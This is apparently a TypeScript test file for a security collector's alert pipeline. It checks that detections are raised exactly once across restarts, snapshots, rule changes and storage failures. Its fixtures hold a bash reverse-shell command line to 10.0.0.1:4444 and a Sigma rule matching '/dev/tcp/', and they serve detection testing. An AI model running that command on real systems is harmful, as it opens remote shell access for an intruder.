/** Detection over the journal: whatever ends it half way, each alert is raised, and raised once. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import t, { type Test } from 'tap';
import { eventOfAlert } from '#shared/detect/alert-event.ts';
import { type AnyEvent, eventSpecs } from '#shared/events/registry.gen.ts';
import { decodeBatch } from '#shared/protocol/codec/decode.ts';
import { eventId } from '#shared/protocol/event-id.ts';
import { compileRules, parseRules, type RuleSet } from '#shared/sigma/index.ts';
import { ExceptionSet, subjectOfAlert } from '../../../collector/alerts/exception-set.ts';
import { createDetector } from '../../../collector/detect/detector.ts';
import type { PipelineOutput } from '../../../collector/ingest/messages.ts';
import { PipelineLoop } from '../../../collector/ingest/pipeline-loop.ts';
import { loadRules, packListsPath, packPath } from '../../../collector/rules/load.ts';
import type { ControlStore } from '../../../collector/store/contract.ts';
import { openControlStore } from '../../../collector/store/control/open.ts';
import { openJournalReader } from '../../../collector/store/journal/reader.ts';
import { openJournalWriter } from '../../../collector/store/journal/writer.ts';
import { batchOf, numbered } from '../../events.ts';
import { tempFolder } from '../../temp.ts';

const hostId = 'a'.repeat(16);
const stream = 'b'.repeat(16);
const { ruleSet } = await loadRules([packPath], [packListsPath]);

function reverseShell(pid: number): AnyEvent {
  return {
    type: 'process.start',
    time: pid * 1000,
    'process.pid': pid,
    'process.entity_id': `e${pid}`,
    'process.start': pid * 1000,
    'user.name': `u${pid}`,
    'process.name': 'bash',
    'process.executable': '/usr/bin/bash',
    'process.command_line': 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
  };
}

function failedLogin(at: number, address = '10.9.8.7'): AnyEvent {
  return {
    type: 'login',
    time: at,
    'event.action': 'failed',
    'event.outcome': 'failure',
    'user.name': 'root',
    'source.ip': address,
    'log.source': 'auth-log',
  };
}

interface Opened {
  readonly loop: PipelineLoop;
  readonly said: PipelineOutput[];
  give(sequence: number, ...events: AnyEvent[]): void;
  /** Ends it once everything given is done. */
  close(): Promise<void>;
}

async function open(
  folder: string,
  wrap: (control: ControlStore) => ControlStore = (c) => c,
  rules: RuleSet = ruleSet,
  exceptions: ExceptionSet = new ExceptionSet([]),
): Promise<Opened> {
  const journal = join(folder, 'journal.db');
  const control = await openControlStore(join(folder, 'control.db'), { durable: false });
  await control.hosts.add(hostId, { hostname: 'h', os: 'linux' }, 1);
  const said: PipelineOutput[] = [];
  const loop = new PipelineLoop({
    writer: openJournalWriter(journal),
    reader: openJournalReader(journal),
    control: wrap(control),
    makeDetector: () =>
      createDetector(rules, {
        exceptionOf: ({ id }, hit, key) => exceptions.idOf({ ...hit, ruleId: id, key }, Date.now() * 1000),
      }),
    hiddenBy: (alert) => exceptions.idOf(subjectOfAlert(alert), Date.now() * 1000),
    snapshotEveryMs: 0,
    post: (message) => said.push(message),
  });
  await loop.open();
  return {
    loop,
    said,
    give(sequence, ...events) {
      const origin = { connection: 1, hostId, hostName: 'h', product: 'linux' };
      const { data } = batchOf(...events);
      loop.add({
        kind: 'batch',
        ...origin,
        stream,
        sequence,
        collected: sequence,
        receivedAt: Date.now() * 1000,
        data,
      });
    },
    close: () => loop.close(),
  };
}

/** What is told as a problem. */
function problems(said: readonly PipelineOutput[]): readonly string[] {
  return said.flatMap((m) => (m.kind === 'problem' ? [`${m.code} ${m.detail}`] : []));
}

async function alertsIn(folder: string) {
  const control = await openControlStore(join(folder, 'control.db'), { durable: false });
  const page = await control.alerts.list({}, 100);
  const cursor = await control.detection.cursor();
  await control.close();
  return { alerts: page.items, cursor };
}

async function journalOnly(folder: string, from: number, ...batches: AnyEvent[][]) {
  const writer = openJournalWriter(join(folder, 'journal.db'));
  await writer.append(
    batches.map((events, i) => {
      const { counts, minTime, maxTime, data, count } = batchOf(...events);
      const at = Date.now() * 1000;
      const sequence = from + i;
      return {
        hostId,
        stream,
        sequence,
        collected: sequence,
        stored: count,
        lost: {},
        counts,
        minTime,
        maxTime,
        receivedAt: at,
        data,
      };
    }),
  );
  await writer.close();
}

function raised(said: readonly PipelineOutput[]) {
  return said.flatMap((m) => (m.kind === 'alerts' ? m.alerts : []));
}

const advised = compileRules(
  parseRules(
    `title: Shell over the network
id: advised
logsource: { category: process_creation }
detection: { s: { CommandLine|contains: /dev/tcp/ }, condition: s }
level: high
confidence: high
response: End it,
  and look who began it.
`,
    'advised.yml',
  ).documents,
  { specs: Object.values(eventSpecs) },
).ruleSet;

/** What a host tells of what it sees in these events, as batch `sequence` of its own. */
function toldByHost(sequence: number, ...events: AnyEvent[]): AnyEvent[] {
  const { data } = batchOf(...events);
  const decoded = decodeBatch(data);
  if (!decoded.ok) throw decoded.error;
  const { groups } = decoded.value;
  const origin = {
    ...{ hostId, hostName: 'h', product: 'linux' },
    eventId: (group: number, row: number) =>
      eventId({ hostId, stream, sequence, index: (groups[group]?.offset ?? 0) + row }),
  };
  return createDetector(advised)
    .detect(
      origin,
      groups.map((group) => group.events),
      1,
    )
    .map((alert) => eventOfAlert(alert, 'f'.repeat(64)));
}

t.test('what a host told and what is detected are one alert, with what the rule says to do', async (t) => {
  const folder = tempFolder(t);
  const events = Array.from({ length: 120 }, () => reverseShell(1));
  const { give, close } = await open(folder, undefined, advised);
  give(1, ...toldByHost(2, ...events));
  give(2, ...events);
  give(3, ...toldByHost(4, ...events));
  give(4, ...events);
  await close();
  const { alerts } = await alertsIn(folder);
  t.match(alerts, [
    {
      ...{ count: 240, confidence: 95, response: 'End it, and look who began it.' },
      samples: [{ field: 'process.command_line', values: [{ count: 240 }], others: 0 }],
    },
  ]);
  t.equal(alerts.length, 1);
  const id = (sequence: number, index: number) => eventId({ hostId, stream, sequence, index });
  t.strictSame(alerts[0]?.eventIds[0], id(2, 0));
  t.strictSame(alerts[0]?.eventIds.at(-1), id(4, 119));
});

t.test('hits of one batch are hidden one by one, those that hosts tell of too', async (t) => {
  const folder = tempFolder(t);
  const control = await openControlStore(join(folder, 'control.db'), { durable: false });
  const entry = { at: 1, actor: 'ada', action: 'exception.make', target: 'exception x', detail: {} };
  const scope = { ruleId: 'advised', key: null, hosts: 'h*', filter: 'process.pid:>=5' };
  const made = { id: 'x', ...scope, reason: 'r', madeAt: 1, madeBy: 'ada', expiresAt: 2 ** 51 };
  await control.alertExceptions.add(made, 10, entry);
  const exceptions = new ExceptionSet(await control.alertExceptions.list());
  // Of one user, so that only the exception tells them apart.
  const events = [1, 5, 2, 6, 7].map((pid) => ({ ...reverseShell(pid), 'user.name': 'eve' }) as AnyEvent);
  const { give, close } = await open(folder, undefined, advised, exceptions);
  give(1, ...toldByHost(2, ...events.slice(3)));
  give(2, ...events);
  await close();
  t.match((await alertsIn(folder)).alerts, [{ count: 2, status: 'open' }]);
  t.match(await control.alertExceptions.list(), [{ hits: 3, lastHost: 'h' }]);
  await control.close();
});

t.test('acknowledged before detected, and each alert told with its reason', async (t: Test) => {
  const folder = tempFolder(t);
  const { give, close, said } = await open(folder);
  give(1, reverseShell(1), numbered(1));
  await close();
  const kinds = said.map((m) => m.kind);
  t.ok(kinds.indexOf('verdicts') < kinds.indexOf('detected'));
  const [one] = raised(said);
  t.match(one, { isNew: true, alert: { ruleTitle: 'Reverse shell', level: 'high', count: 1 } });
  t.match(one?.alert.reason, '/dev/tcp/');
});

t.test(
  'what was stored and not detected when the collector died is detected at the next start, once',
  async (t) => {
    const folder = tempFolder(t);
    await journalOnly(folder, 1, [reverseShell(1)], [numbered(1)], [reverseShell(2)]);
    for (let start = 0; start < 3; start++) {
      const { close, said } = await open(folder);
      await close();
      t.equal(raised(said).length, start === 0 ? 2 : 0);
    }
    const { alerts, cursor } = await alertsIn(folder);
    t.strictSame(
      alerts.map((a) => a.count),
      [1, 1],
    );
    t.equal(cursor, 3);
  },
);

t.test('a correlation goes on over a restart in the middle of its window', async (t) => {
  const folder = tempFolder(t);
  const now = Date.now() * 1000;
  const failures = (from: number, n: number) =>
    Array.from({ length: n }, (_, i) => failedLogin(now - 20e6 + (from + i) * 1e6));
  const first = await open(folder);
  first.give(1, ...failures(0, 3));
  await first.close();
  t.equal(raised(first.said).length, 0);
  const told = first.said.findLast((m) => m.kind === 'detected')?.correlations;
  t.match(told, { evicted: 0, tooLate: 0 }, 'and says what it holds');
  t.ok((told?.groups ?? 0) >= 1, 'a group of each correlation that counts them');
  t.ok((told?.sizeBytes ?? 0) > 0);
  const second = await open(folder);
  second.give(2, ...failures(3, 3));
  await second.close();
  t.equal(raised(second.said).length, 1);
  t.match(raised(second.said)[0]?.alert.ruleTitle, /failed/i);
});

/** Failed logins whose times are so long ago that history is not searched for them. */
const longAgo = (from: number, n: number) =>
  Array.from({ length: n }, (_, i) => failedLogin(1_700_000_000_000_000 + (from + i) * 1e6, '10.1.1.1'));

t.test('a snapshot carries state that history of the lookback would not', async (t) => {
  const folder = tempFolder(t);
  const first = await open(folder);
  first.give(1, ...longAgo(0, 3));
  await first.close();
  const second = await open(folder);
  second.give(2, ...longAgo(3, 3));
  await second.close();
  t.equal(raised(second.said).length, 1);
  t.strictSame([...problems(first.said), ...problems(second.said)], []);
  const third = await open(folder);
  third.give(3, ...longAgo(6, 1));
  await third.close();
  t.match(raised(third.said), [{ isNew: false, alert: { count: 7 } }], 'the episode goes on');
});

t.test('batches between the snapshot and the cursor are seen again, their alerts are not', async (t) => {
  const folder = tempFolder(t);
  const first = await open(folder, (control) => ({
    ...control,
    // As if it died before any snapshot but the first.
    detection: {
      ...control.detection,
      commit: (cursor, alerts, snapshot) =>
        control.detection.commit(cursor, alerts, cursor === 1 ? snapshot : undefined),
      keepSnapshot: () => Promise.resolve(false),
    },
  }));
  for (const [i, n] of [2, 4, 1].entries()) {
    first.give(i + 1, ...longAgo(i * 10, n));
    while (first.said.filter((m) => m.kind === 'detected').length <= i) await sleep(5);
  }
  await first.close();
  t.match(raised(first.said), [{ isNew: true }, { isNew: false }]);
  const second = await open(folder);
  t.strictSame(raised(second.said), []);
  second.give(4, ...longAgo(25, 1));
  await second.close();
  const { alerts } = await alertsIn(folder);
  t.strictSame(
    alerts.map((a) => a.count),
    [8],
  );
});

t.test('a snapshot that is damaged is told and history is read instead', async (t) => {
  const folder = tempFolder(t);
  const now = Date.now() * 1000;
  const failures = (from: number, n: number) =>
    Array.from({ length: n }, (_, i) => failedLogin(now - 20e6 + (from + i) * 1e6));
  const first = await open(folder);
  first.give(1, ...failures(0, 3));
  await first.close();
  const control = await openControlStore(join(folder, 'control.db'), { durable: false });
  const kept = await control.detection.snapshot();
  t.equal(kept?.cursor, 1);
  const data = Uint8Array.from(kept!.data, (byte, i) => (i === 20 ? byte ^ 1 : byte));
  t.ok(await control.detection.keepSnapshot({ cursor: 1, data }));
  await control.close();
  const second = await open(folder);
  second.give(2, ...failures(3, 3));
  await second.close();
  t.match(problems(second.said), [/^detection\.snapshot_unusable .*checksum/]);
  t.equal(raised(second.said).length, 1);
});

t.test('when rules change, those that did not keep their state and new ones see history, once', async (t) => {
  const folder = tempFolder(t);
  const now = Date.now() * 1000;
  const first = await open(folder);
  first.give(1, ...Array.from({ length: 4 }, (_, i) => failedLogin(now - 9e6 + i)));
  await first.close();
  const fresh = `
title: Fresh
id: fresh
correlation: { type: event_count, rules: [failed_login], group-by: [host.id], timespan: 1m, condition: { gte: 5 } }
`;
  const texts = [readFileSync(join(packPath, 'repeated-failed-login.yml'), 'utf8'), fresh];
  const documents = texts.flatMap((text) => parseRules(text, 'rules.yml').documents);
  const changed = compileRules(documents, { specs: Object.values(eventSpecs) }).ruleSet;
  const second = await open(folder, undefined, changed);
  second.give(2, failedLogin(now));
  await second.close();
  const titles = raised(second.said).map(({ alert }) => `${alert.ruleTitle} ${alert.count}`);
  t.strictSame(titles.sort(), ['Fresh 5', 'Repeated failed login 5']);
});

t.test(
  'while alerts cannot be recorded, batches are stored all the same and detected later, once',
  async (t) => {
    const folder = tempFolder(t);
    let isRefusing = true;
    const { give, close, said } = await open(folder, (control) => ({
      ...control,
      detection: {
        ...control.detection,
        // The real store behind a disk that refuses for a while.
        commit: (cursor, alerts) =>
          isRefusing ? Promise.reject(new Error('disk full')) : control.detection.commit(cursor, alerts),
      },
    }));
    give(1, reverseShell(1));
    await sleep(100);
    give(2, reverseShell(2));
    await sleep(100);
    t.equal(
      said
        .filter((m) => m.kind === 'verdicts')
        .flatMap((m) => m.verdicts)
        .filter((v) => v.outcome === 'stored').length,
      2,
    );
    t.ok(said.some((m) => m.kind === 'problem'));
    isRefusing = false;
    while (raised(said).length < 2) await sleep(50);
    give(3, reverseShell(3));
    await close();
    t.equal(raised(said).length, 3);
    const { alerts } = await alertsIn(folder);
    t.strictSame(
      alerts.map((a) => a.count),
      [1, 1, 1],
    );
  },
);

t.test('batches that are wrong get their verdict, and their neighbours theirs', async (t) => {
  const folder = tempFolder(t);
  const { loop, give, close, said } = await open(folder);
  const origin = { connection: 1, hostId, hostName: 'h', product: 'linux', stream: 'c'.repeat(16) };
  loop.add({ kind: 'batch', ...origin, sequence: 1, collected: 1, receivedAt: 1, data: new Uint8Array([9]) });
  give(1, numbered(1));
  give(5, numbered(1));
  await close();
  const verdicts = said.flatMap((m) => (m.kind === 'verdicts' ? m.verdicts : []));
  t.match(verdicts[0]?.outcome, { code: 'wire.batch_malformed' });
  t.equal(verdicts[1]?.outcome, 'stored');
  t.match(verdicts[2]?.outcome, { code: 'wire.sequence_gap' });
});
